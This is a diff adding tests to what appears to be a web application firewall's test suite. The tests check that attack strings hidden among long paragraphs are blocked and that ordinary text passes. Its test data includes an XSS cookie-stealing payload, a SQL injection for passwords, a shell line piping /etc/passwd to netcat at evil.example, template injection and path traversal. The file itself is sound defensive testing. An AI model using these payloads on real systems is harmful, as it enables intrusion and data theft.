@@ -164,6 +164,28 @@ describe("sentences (the prose fast path)", () => {
   it("treats a cmd.exe control line in a sentence as a command line", () => {
     expect(query("IF EXIST C:\\boot.ini ECHO found and this is a long sentence").action).toBe("block");
   });
+
+  // Long values are read without the sentences inside them (`withoutProse`): what is left out
+  // must never hide an attack between paragraphs, nor join two harmless pieces into one.
+  const paragraph = sentences.join(" ").repeat(4);
+  const post = (middle: string) => json({ body: `${middle}\n\n${paragraph}`, quoted: `${paragraph}\n\n${middle}\n\n${paragraph} ${paragraph}` });
+  it.each([
+    ["markup", "<img src=x onerror=alert(document.cookie)>"],
+    ["SQL after a quote, in words", "Nice post x' union select username, password from users where 'a' like 'a"],
+    ["a command line on its own line", "; cat /etc/passwd | nc evil.example 4444"],
+    ["a template expression", "Hello {{ self.__init__.__globals__.__builtins__ }}"],
+    ["a traversal", "see ../../../../etc/passwd for details"],
+  ])("finds %s before and between long paragraphs", (_kind, middle) => {
+    expect(post(middle).action).toBe("block");
+  });
+  it.each([
+    ["a code line", "const rows = await db.select().from(orders).where(eq(orders.customer, name));"],
+    ["a markdown list and a heading", "## Features\n\n- Don't buy\n- Works with *any* TV"],
+    ["a quote, a sentence, then a heading", `# 4K TV 55"\n\nThe cat's out of the bag: we're launching in Spain and Portugal in June!\n\n## Features\n\n- Don't buy\n- Works with *any* TV`],
+    ["an e-mail and a URL", "Write to ana@example.com or see https://example.com/docs?page=2."],
+  ])("passes %s before and between long paragraphs", (_kind, middle) => {
+    expect(post(middle).action).toBe("allow");
+  });
 });
 
 describe("payload inspection", () => {
@@ -212,6 +234,17 @@ describe("payload inspection", () => {
     expect(multipart('Content-Disposition: form-data; name="f"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG <script>').action).toBe("allow");
     expect(query(`data:text/html;base64,${btoa("<svg onload=alert(1)>")}`, "icon").class).toBe("xss");
     expect(query(`data:image/png;base64,${btoa("<svg onload=alert(1)>")}`, "icon").action).toBe("allow");
+  });
+
+  it("judges one value by where it stands, also when the per-isolate result cache has seen it elsewhere", () => {
+    const asQuery = () => evaluate({ url: "https://edge.test/search?q=shell.php" }).action;
+    const asUpload = () => evaluate({ headers: { "x-filename": "shell.php" } }).action;
+    expect([asQuery(), asUpload(), asQuery(), asUpload()]).toEqual(["allow", "block", "allow", "block"]);
+    expect(evaluate({ url: "https://edge.test/search?q=sessionid" }).action).toBe("allow");
+    expect(evaluate({ url: "https://edge.test/search?sessionid=abc" }).action).toBe("block");
+    // One value under many names keeps being judged per name.
+    for (let i = 0; i < 20; i++) expect(evaluate({ url: `https://edge.test/search?n${i}=shell.php` }).action).toBe("allow");
+    expect(asUpload()).toBe("block");
   });
 
   it("lets ordinary tricky input through", () => {
